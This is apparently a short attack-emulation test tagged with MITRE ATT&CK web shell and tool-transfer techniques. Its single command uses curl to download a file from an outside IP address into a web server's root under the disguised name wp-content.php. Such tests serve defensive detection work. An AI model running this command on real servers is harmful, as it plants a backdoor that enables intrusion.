# title: A web shell is downloaded into the root of a web server
# technique: T1505.003 T1105
# needs: curl

curl -s http://192.88.99.7/c.txt -o /var/www/html/wp-content.php
